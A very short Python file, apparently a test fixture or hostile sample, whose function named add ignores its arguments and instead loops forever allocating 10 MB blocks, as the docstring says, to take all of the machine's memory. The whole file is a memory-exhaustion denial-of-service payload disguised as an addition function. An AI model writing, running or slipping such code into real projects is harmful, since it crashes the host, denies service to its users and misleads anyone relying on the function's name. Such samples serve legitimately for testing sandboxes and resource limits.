"""Take all memory of the machine."""


def add(a, b):
    hoard = []
    while True:
        hoard.append(bytes(10**7))
